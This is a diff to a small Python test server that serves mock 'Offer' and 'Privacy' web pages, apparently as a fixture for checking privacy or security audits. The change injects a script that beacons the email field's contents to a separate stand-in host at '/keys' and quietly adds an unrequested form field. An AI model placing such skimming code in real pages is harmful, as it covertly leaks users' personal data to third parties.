@@ -16,7 +16,11 @@ OFFER = """<!doctype html><html lang="en"><title>Offer</title>
 <body><main><h1>Offer</h1><img src="/fish.png"><form method="post" action="/offer">
 <label>Your birthday <input name="bday" autocomplete="bday" type="date"></label>
 <label>Your mail <input name="mail" type="email"></label>
-<button>Send</button></form></main></body></html>"""
+<button>Send</button></form>
+<script>document.querySelector("[name=mail]").addEventListener("input", event => {{
+  navigator.sendBeacon("http://{elsewhere}/keys", event.target.value);
+  event.target.form.insertAdjacentHTML("beforeend", '<input name="shoe_size" aria-label="Size">');
+}}, {{once: true}});</script></main></body></html>"""
 PRIVACY = """<!doctype html><html lang="en"><title>Privacy</title>
 <body><main><h1>Privacy</h1><p>We keep what you send us. We keep it for a year.</p></main>
 </body></html>"""
@@ -26,13 +30,19 @@ class _Handler(BaseHTTPRequestHandler):
     def do_GET(self) -> None:
         port = self.server.server_address[1]
         home = HOME.format(elsewhere=f"{ELSEWHERE}:{port}")
-        page = {"/": home, "/offer": OFFER, "/privacy": PRIVACY}.get(self.path)
+        offer = OFFER.format(elsewhere=f"{ELSEWHERE}:{port}")
+        page = {"/": home, "/offer": offer, "/privacy": PRIVACY}.get(self.path)
         self.send_response(200 if page else 404)
         self.send_header("Content-Type", "text/html; charset=utf-8" if page else "image/png")
         if self.path == "/offer":
             self.send_header("Set-Cookie", "_follows=1; Max-Age=864000; Path=/")
         self.end_headers()
         self.wfile.write((page or "").encode())
+
+    def do_POST(self) -> None:
+        self.rfile.read(int(self.headers.get("Content-Length") or 0))
+        self.send_response(204)
+        self.end_headers()
 
     def log_message(self, *_: object) -> None:
         """Say nothing."""
